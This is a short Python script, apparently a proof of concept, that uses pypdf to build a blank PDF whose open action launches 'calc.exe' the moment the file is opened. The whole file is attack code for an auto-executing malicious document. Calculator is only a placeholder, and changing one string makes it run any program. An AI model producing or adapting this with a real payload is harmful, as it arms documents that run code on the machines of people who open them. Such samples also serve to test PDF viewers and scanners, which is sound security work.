from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

writer = PdfWriter()
writer.add_blank_page(99, 99)
writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
    {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
)
writer.write("x.pdf")
